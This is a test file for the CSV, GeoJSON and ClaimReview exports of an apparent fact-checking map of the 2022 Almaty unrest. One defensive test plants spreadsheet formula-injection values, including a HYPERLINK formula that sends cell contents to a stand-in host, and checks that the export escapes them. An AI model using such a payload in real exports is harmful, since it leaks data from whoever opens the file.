import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { indexWithFacts } from '$lib/server/story-facts';
import { loadStory } from '$lib/server/geodata';
import { claimReviews } from './claim-review';
import { CSV_COLUMNS, exportFileName, toCSV, toGeoJSON } from './exports';

const index = indexWithFacts(loadStory());
const all = { incidents: index.data.incidents, claims: index.data.claims };
const some = {
	incidents: index.data.incidents.filter((i) => i.properties.layer === 'fires'),
	claims: index.data.claims.filter((c) => c.places.includes('akimat'))
};

describe('GeoJSON export', () => {
	it('is an RFC 7946 FeatureCollection of what is shown, with statuses and sources', () => {
		const fc = toGeoJSON(index, some);
		expect(fc.type).toBe('FeatureCollection');
		expect(fc.dataset_version).toBe(index.data.story.version);
		expect(fc.features).toHaveLength(some.incidents.length + some.claims.length);
		for (const f of fc.features) {
			if (f.geometry.type === 'Point') {
				const [lon, lat] = f.geometry.coordinates as [number, number];
				// [lon, lat] order, inside the story's box.
				expect(lon).toBeGreaterThan(index.data.story.bbox[0]);
				expect(lat).toBeLessThan(index.data.story.bbox[3]);
			}
			expect(f.properties!.status).toBeTruthy();
			expect(String(f.properties!.sources)).toMatch(/\S/);
		}
		expect(JSON.parse(JSON.stringify(fc))).toEqual(fc);
	});

	it('gives a claim about the whole country its area and a scope, never a made-up point', () => {
		const countryWide = all.claims.filter((c) => c.places[0] === 'kazakhstan');
		expect(countryWide.length).toBeGreaterThan(0);
		const fc = toGeoJSON(index, { incidents: [], claims: countryWide });
		for (const f of fc.features) {
			expect(f.geometry.type, String(f.id)).toMatch(/Polygon$/);
			expect(f.properties!.scope).toBe('kazakhstan');
			expect(f.properties!.uncertainty_m).toBeNull();
		}
		// Places with a point keep it, with its radius, and no scope.
		const square = toGeoJSON(index, {
			incidents: [],
			claims: all.claims.filter((c) => c.places[0] === 'republic-square')
		});
		expect(square.features.length).toBeGreaterThan(0);
		for (const f of square.features) {
			expect(f.geometry.type).toBe('Point');
			expect(f.properties!.scope).toBeNull();
			expect(f.properties!.uncertainty_m).toBeGreaterThan(0);
		}
	});

	it('carries each claim’s dated status history, ending on its status', () => {
		const fc = toGeoJSON(index, all);
		for (const f of fc.features.filter((x) => x.properties!.kind === 'claim')) {
			const history = f.properties!.status_history as { status: string; date: string | null }[];
			expect(history.length, String(f.id)).toBeGreaterThan(0);
			expect(history.at(-1)!.status).toBe(f.properties!.status);
		}
		const beheaded = fc.features.find((x) => x.id === 'claim:two-beheaded')!;
		expect(
			(beheaded.properties!.status_history as { status: string; date: string | null }[]).map((e) => [
				e.date,
				e.status
			])
		).toEqual([
			['2022-01-06', 'attributed'],
			['2022-01-06', 'attributed'],
			[null, 'disputed']
		]);
	});
});

describe('CSV export', () => {
	it('round-trips: every field comes back as written', () => {
		const csv = toCSV(index, all);
		const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
		expect(parsed.errors).toEqual([]);
		expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
		expect(parsed.data).toHaveLength(all.incidents.length + all.claims.length);
		const claim = parsed.data.find((r) => r.id === 'hospitalised-over-400')!;
		const source = index.data.claims.find((c) => c.id === 'hospitalised-over-400')!;
		expect(claim.text_fr).toBe(source.text.fr);
		expect(claim.status).toBe('disputed');
		expect(claim.attributed_to).toContain('Health Ministry');
		// Quotes, commas and line breaks inside fields survive.
		const tricky = parsed.data.find((r) => Object.values(r).some((v) => v.includes('"') && v.includes(',')));
		expect(tricky).toBeTruthy();
		const again = Papa.parse<string[]>(Papa.unparse(parsed.data.map((r) => CSV_COLUMNS.map((c) => r[c]))), {
			skipEmptyLines: true
		});
		expect(again.data.map((row) => row.join('\u0000'))).toEqual(
			parsed.data.map((r) => CSV_COLUMNS.map((c) => r[c]).join('\u0000'))
		);
	});
});

describe('CSV export and spreadsheets', () => {
	it('never hands a spreadsheet a formula: such cells start with an apostrophe', () => {
		const data = structuredClone(loadStory());
		const [a, b, c, d] = data.claims;
		a!.text.fr = '=HYPERLINK("http://example.org/?leak="&A1,"Cliquez")';
		a!.text.en = '=1+1\nsecond line';
		b!.text.fr = '+33 1 23';
		b!.text.en = '-2+3';
		c!.text.fr = '@SUM(A1:A9)';
		c!.text.en = '\t=1+1';
		d!.text.fr = 'a = b, @ and + inside are fine';
		const tampered = indexWithFacts(data);
		const csv = toCSV(tampered, { incidents: [], claims: [a!, b!, c!, d!] });
		const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
		const row = (id: string) => rows.find((r) => r.id === id)!;
		expect(row(a!.id).text_fr).toBe(`'${a!.text.fr}`);
		expect(row(a!.id).text_en).toBe(`'${a!.text.en}`);
		expect(row(b!.id).text_fr).toBe("'+33 1 23");
		expect(row(b!.id).text_en).toBe("'-2+3");
		expect(row(c!.id).text_fr).toBe("'@SUM(A1:A9)");
		expect(row(c!.id).text_en).toBe("'\t=1+1");
		expect(row(d!.id).text_fr).toBe(d!.text.fr);
		for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
	});

	it('leaves numbers as numbers, and no coordinates for an area', () => {
		const rows = Papa.parse<Record<string, string>>(toCSV(index, all), {
			header: true,
			skipEmptyLines: true
		}).data;
		for (const r of rows)
			if (r.scope) expect([r.lon, r.lat, r.uncertainty_m]).toEqual(['', '', '']);
			else expect(r.lon).toMatch(/^\d+(\.\d+)?$/);
		expect(rows.find((r) => r.id === 'injured-over-1000')!.scope).toBe('kazakhstan');
	});

	it('has a status history column, saying when a date is not established', () => {
		const rows = Papa.parse<Record<string, string>>(toCSV(index, all), {
			header: true,
			skipEmptyLines: true
		}).data;
		expect(rows.find((r) => r.id === 'two-beheaded')!.status_history).toBe(
			'2022-01-06 attributed (ap-2022-01-06-dozens-killed) | 2022-01-06 attributed (ria-2022-01-06-beheaded) | date unknown disputed (inbusiness-beheading-denial)'
		);
		expect(rows.find((r) => r.id === 'akimat-fire')!.status_history).toBe('');
	});
});

// The shape Google and schema.org expect of a ClaimReview.
const ClaimReviewShape = z.object({
	'@context': z.literal('https://schema.org'),
	'@type': z.literal('ClaimReview'),
	url: z.url(),
	datePublished: z.string().regex(/^\d{4}-\d{2}-\d{2}$/),
	author: z.object({ '@type': z.string(), name: z.string().min(1) }),
	claimReviewed: z.string().min(1),
	reviewRating: z.object({
		'@type': z.literal('Rating'),
		ratingValue: z.number().int().min(1).max(4),
		bestRating: z.literal(4),
		worstRating: z.literal(1),
		alternateName: z.string().min(1)
	}),
	itemReviewed: z.object({
		'@type': z.literal('Claim'),
		author: z.object({ '@type': z.string(), name: z.string().min(1) }),
		datePublished: z.string(),
		appearance: z.object({ '@type': z.string(), publisher: z.object({ name: z.string() }) })
	})
});

describe('ClaimReview', () => {
	it('gives every claim a review that has the schema.org shape', () => {
		const reviews = claimReviews(index.data, 'https://maps.example.org/', 'en');
		expect(reviews).toHaveLength(index.data.claims.length);
		for (const r of reviews) ClaimReviewShape.parse(r);
		const one = claimReviews(index.data, 'https://maps.example.org', 'fr', 'two-beheaded');
		expect(one).toHaveLength(1);
		expect(ClaimReviewShape.parse(one[0]).url).toBe('https://maps.example.org/claim/two-beheaded');
	});

	it('rates each claim by its latest status entry, modified on that entry’s date when known', () => {
		const [police] = claimReviews(index.data, 'https://maps.example.org', 'en', 'police-killed-dozens') as {
			dateModified?: string;
			reviewRating: { alternateName: string };
		}[];
		expect(police!.dateModified).toBe('2022-03-14');
		expect(police!.reviewRating.alternateName).toBe('attributed');
		// The denial's date is not established: no date is made up.
		const [beheaded] = claimReviews(index.data, 'https://maps.example.org', 'en', 'two-beheaded') as {
			dateModified?: string;
			reviewRating: { alternateName: string; ratingValue: number };
		}[];
		expect(beheaded!.dateModified).toBeUndefined();
		expect(beheaded!.reviewRating).toMatchObject({ alternateName: 'disputed', ratingValue: 1 });
	});
});

it('names files after the story, the date and the dataset version', () => {
	expect(exportFileName(index, 'csv', new Date('2026-11-24T10:00:00Z'))).toBe(
		`almaty-2022_2026-11-24_v${index.data.story.version}.csv`
	);
});
